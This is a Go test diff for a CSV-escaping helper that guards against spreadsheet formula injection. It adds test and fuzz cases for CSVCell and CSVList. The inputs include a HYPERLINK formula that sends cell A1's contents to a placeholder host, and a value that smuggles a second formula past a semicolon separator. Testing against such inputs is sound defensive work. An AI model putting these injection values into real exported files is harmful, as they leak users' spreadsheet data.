@@ -69,10 +69,27 @@ func TestCSVCell(t *testing.T) {
 		{"\t=1", `'\x09=1`},
 		{"\r=1", `'\x0d=1`},
 		{"a=1", "a=1"},
+		{"WS-02;@SUM(1+1)", `WS-02\x3b@SUM(1+1)`},
+		{";=1", `\x3b=1`},
 		{"", ""},
 	} {
 		if got := CSVCell(tc.in); got != tc.want {
 			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestCSVList(t *testing.T) {
+	for _, tc := range []struct {
+		in   []string
+		want string
+	}{
+		{nil, ""},
+		{[]string{"WS-01", `=HYPERLINK("http://x/?"&A1)`, "WS-02;@SUM(1+1)"}, `WS-01;'=HYPERLINK("http://x/?"&A1);WS-02\x3b@SUM(1+1)`},
+		{[]string{"-1", "+1"}, "'-1;'+1"},
+	} {
+		if got := CSVList(tc.in); got != tc.want {
+			t.Errorf("CSVList(%q) = %q, want %q", tc.in, got, tc.want)
 		}
 	}
 }
@@ -103,8 +120,13 @@ func FuzzEscape(f *testing.F) {
 			t.Fatalf("Truncate(Escape(%q)) = %q", s, tr)
 		}
 		c := CSVCell(s)
-		if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
-			t.Fatalf("CSVCell(%q) = %q starts a formula", s, c)
+		if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 || strings.Contains(c, ";") {
+			t.Fatalf("CSVCell(%q) = %q starts a formula or holds ';'", s, c)
+		}
+		for _, part := range strings.Split(CSVList([]string{s, s, "x"}), ";") {
+			if part != "" && strings.IndexByte("=+-@\t\r", part[0]) >= 0 {
+				t.Fatalf("CSVList of %q has a part %q that starts a formula", s, part)
+			}
 		}
 		if !Valid(c) {
 			t.Fatalf("CSVCell(%q) = %q not printable", s, c)
